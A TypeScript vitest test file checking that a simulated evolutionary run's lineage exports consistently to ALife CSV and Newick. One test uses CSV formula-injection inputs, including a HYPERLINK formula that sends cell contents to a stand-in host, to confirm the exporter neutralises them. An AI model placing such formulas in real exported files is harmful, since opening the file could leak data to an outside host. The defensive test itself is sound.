import { expect, test } from 'vitest';
import { alifeCsv } from '#store/library/lineage/alife-csv.ts';
import { livesOf } from '#store/library/lineage/descendants.ts';
import { newick } from '#store/library/lineage/newick.ts';
import { CONFIG } from '../../ui/fake-catalog.ts';
import { readAlife, readCsv, readNewick } from './lineage-readers.ts';
import { simulateRun } from './simulate-run.ts';

const NAMES = Object.keys(CONFIG.hyperparameters);
const run = await simulateRun(40, {
  config: { ...CONFIG, target: { ...CONFIG.target, enabled: false } },
});
const lives = livesOf(run);
const RUN = { seed: 42, settings: '#/evolve?p=cartpole-dqn&s=42&v=1' };
const csv = alifeCsv(lives, NAMES, RUN);

test('ALife CSV and Newick hold the same tree, which is the run’s', () => {
  const tree = readAlife(csv);
  expect(readNewick(newick(lives))).toEqual(tree);

  const births = [...run.founders, ...run.generations.flatMap((event) => event.births)];
  const evaluated = new Set(run.generations.flatMap(({ ids }) => [...ids]));
  expect(tree.size).toBe(evaluated.size);
  expect(tree.size).toBeGreaterThan(150);
  for (const { id, parent } of births)
    if (evaluated.has(id)) expect(tree.get(id)?.parent).toBe(parent);
});

test('a row says how long an agent lived, how fit it was and what was changed', () => {
  const rows = new Map(readCsv(csv).map((row) => [Number(row['id']), row]));
  run.generations.forEach(({ ids, fitness, births, generation, hyperparameters }) => {
    ids.forEach((id, slot) => {
      const row = rows.get(id);
      const lived = run.generations.filter((event) => event.ids.includes(id));
      const last = lived.at(-1)?.generation ?? -1;
      expect(Number(row?.['origin_time'])).toBe(lived[0]?.generation);
      expect(row?.['destruction_time']).toBe(last === 39 ? 'inf' : String(last + 1));
      expect(Number(row?.['evaluations'])).toBe(lived.length);
      if (last !== generation) return;
      const expected = fitness[slot] ?? Number.NaN;
      expect(row?.['fitness']).toBe(Number.isNaN(expected) ? '' : String(expected));
      NAMES.forEach((name, i) => {
        expect(Number(row?.[name])).toBe(hyperparameters[slot * NAMES.length + i]);
      });
    });
    for (const { id, mutation } of births) {
      const row = rows.get(id);
      if (!row) continue;
      expect(row['mutation']).toBe(mutation.family);
      for (const { path, from, to } of mutation.changes)
        expect(row['changes']).toContain(`${path}: ${from ?? 'none'} -> ${to ?? 'none'}`);
    }
  });
});

test('text with commas and quotes stays one field', () => {
  const [life] = lives;
  if (!life) return expect.unreachable();
  const method = 'a, "b"\r\nc';
  const odd = { ...life, birth: { ...life.birth, mutation: { ...life.birth.mutation, method } } };
  expect(readCsv(alifeCsv([odd], NAMES, RUN))[0]?.['method']).toBe(method);
});

test('who lives at the end is told from who has died without children', () => {
  const living = readCsv(csv).filter((row) => row['destruction_time'] === 'inf');
  const last = [...(run.generations.at(-1)?.ids ?? [])];
  expect(living.map((row) => Number(row['id']))).toEqual(last.sort((a, b) => a - b));
  // A byte order mark would become part of the first name.
  expect(csv).toMatch(/^id,ancestor_list,origin_time,destruction_time,taxon_label,/);
});

test('every agent has the same name in both files, and none is a bare number', () => {
  const names = newick(lives).match(/[^(),:;\s]+(?=[:,);])(?<!:[^(),:;\s]+)/g) ?? [];
  const labels = readCsv(csv).map((row) => row['taxon_label'] ?? '');
  expect(new Set(names)).toEqual(new Set(labels));
  expect(labels.filter((label) => !/^agent\d+$/.test(label))).toEqual([]);
});

test('seed and settings of the run stand in every row', () => {
  for (const row of readCsv(csv)) expect(row).toMatchObject({ seed: '42', settings: RUN.settings });
});

test('no text that came with a file is a formula', () => {
  const [life] = lives;
  if (!life) return expect.unreachable();
  const mutation = {
    ...life.birth.mutation,
    method: '=HYPERLINK("http://example.org/?"&A1,"open")',
    changes: [
      { path: '=1+1', from: null, to: 3 },
      { path: '=2+2', from: null, to: '@SUM(A1)' },
    ],
  };
  const [row] = readCsv(alifeCsv([{ ...life, birth: { ...life.birth, mutation } }], NAMES, RUN));
  expect(row?.['method']).toBe(`'${mutation.method}`);
  // The second change begins a cell if a semicolon separates cells.
  expect(row?.['changes']).toBe("'=1+1: none -> 3;' =2+2: none -> @SUM(A1)");
});

test('nobody evaluated gives a table without rows and no tree', () => {
  expect(readCsv(alifeCsv([], NAMES, RUN))).toEqual([]);
  expect(newick([])).toBe('');
});
